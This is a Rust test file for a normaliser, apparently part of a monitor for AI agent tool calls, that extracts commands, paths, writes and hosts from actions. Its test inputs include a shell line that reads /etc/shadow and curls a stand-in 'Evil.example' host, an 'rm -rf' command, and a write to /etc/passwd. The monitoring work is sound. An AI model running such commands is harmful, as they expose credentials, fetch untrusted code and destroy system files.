use super::*;
use proctor_core::action::Action;

fn facts(text: &str) -> Facts {
    normalise(&Action::from_json(&Json::parse(text.as_bytes()).unwrap()).unwrap(), None)
}

#[test]
fn a_shell_command_shows_what_it_touches() {
    let facts = facts(
        r#"{"tool":"Bash","cwd":"/repo","args":{"command":"cd /etc && sudo cat shadow | tee ../out.txt; curl -s https://Evil.example:8443/x > $HOME/y"}}"#,
    );
    assert_eq!(facts.tool, "shell");
    assert_eq!(facts.name, "Bash");
    assert!(facts.commands.contains(&"cat shadow".to_owned()), "{facts:#?}");
    assert!(facts.paths.contains(&"/etc/shadow".to_owned()), "{facts:#?}");
    assert!(facts.writes.contains(&"/out.txt".to_owned()), "{facts:#?}");
    assert_eq!(facts.hosts, ["evil.example"]);
    assert!(facts.unknown.iter().any(|unknown| unknown.contains("$HOME/y")), "{facts:#?}");
}

#[test]
fn a_command_as_words_is_judged_like_a_line() {
    let facts = facts(r#"{"tool":"exec","args":{"command":["bash","-lc","rm -rf 'my dir'"]},"cwd":"/w"}"#);
    assert!(facts.commands.contains(&"rm -rf my dir".to_owned()), "{facts:#?}");
    assert_eq!(facts.writes, ["/w/my dir"]);
}

#[test]
fn file_tools_write_the_paths_they_are_given() {
    let facts = facts(
        r#"{"tool":"Write","args":{"file_path":"../../etc/passwd","content":"see https://a.example/"},"cwd":"/home/u"}"#,
    );
    assert_eq!(facts.tool, "file_write");
    assert_eq!(facts.path, "/etc/passwd");
    assert_eq!(facts.writes, ["/etc/passwd"]);
    assert!(facts.hosts.is_empty(), "text that mentions a URL connects to nothing: {facts:#?}");
}

#[test]
fn kinds_without_a_name_have_a_tool() {
    assert_eq!(facts(r#"{"kind":"process_exec","command":"ls"}"#).tool, "shell");
    assert_eq!(facts(r#"{"kind":"file_operation","operation":"append","path":"/x"}"#).tool, "file_write");
    assert_eq!(facts(r#"{"kind":"file_operation","operation":"delete","path":"/x"}"#).writes, ["/x"]);
    assert_eq!(facts(r#"{"kind":"llm_call","model":"m"}"#).name, "llm_call");
    let network = facts(r#"{"kind":"network_call","host":"API.Example.com.","port":443}"#);
    assert_eq!(
        (network.tool.as_str(), network.host.as_str(), network.port),
        ("network", "api.example.com", 443)
    );
}

#[test]
fn patches_name_their_files() {
    let facts = facts(
        r#"{"tool":"apply_patch","args":{"input":"*** Begin Patch\n*** Delete File: a/b.txt\n*** End Patch"},"cwd":"/r"}"#,
    );
    assert_eq!(facts.writes, ["/r/a/b.txt"]);
}

#[test]
fn real_paths_are_added_beside_the_lexical_ones() {
    struct Link;
    impl PathResolver for Link {
        fn real_path(&self, path: &str) -> Option<String> {
            (path == "/w/link").then(|| "/etc".to_owned())
        }
    }
    let action =
        Action::from_json(&Json::parse(br#"{"tool":"write","args":{"path":"link"},"cwd":"/w"}"#).unwrap())
            .unwrap();
    let facts = normalise(&action, Some(&Link));
    assert_eq!(facts.writes, ["/w/link", "/etc"]);
    assert_eq!(facts.paths, ["/w/link", "/etc"]);
}

#[test]
fn plurals_are_bounded_and_say_so() {
    let command = (0..3000).map(|index| format!("cat /f{index}")).collect::<Vec<_>>().join(";");
    let value = Json::object().with("tool", "bash").with("args", Json::object().with("command", command));
    let facts = normalise(&Action::from_json(&value).unwrap(), None);
    assert_eq!(facts.paths.len(), MAX_ENTRIES);
    assert!(facts.unknown.iter().any(|unknown| unknown.contains("more than 1024")));
}

#[test]
fn long_paths_and_working_directories_are_unknown_and_are_not_multiplied() {
    let names: Vec<String> = (0..900).map(|n| format!("p{n}")).collect();
    let long = format!("/{}", "d".repeat(100_000));
    let of = |cwd: &str, command: &str| {
        let action = Json::object()
            .with("tool", "bash")
            .with("cwd", cwd)
            .with("args", Json::object().with("command", command));
        facts(&action.to_string())
    };
    for found in [
        of(&long, &format!("cat {}", names.join(" "))),
        of("/w", &format!("cd {long} && cat {}", names.join(" "))),
        of("/w", &format!("cat {long} {long}x")),
        facts(&Json::object().with("tool", "Read").with("path", long.as_str()).to_string()),
    ] {
        assert!(found.unknown.iter().any(|unknown| unknown == LONG_PATH), "{:?}", found.unknown);
        let bytes: usize = found.paths.iter().chain(&found.writes).map(String::len).sum();
        assert!(bytes < 200_000, "{bytes} bytes of paths");
    }
}
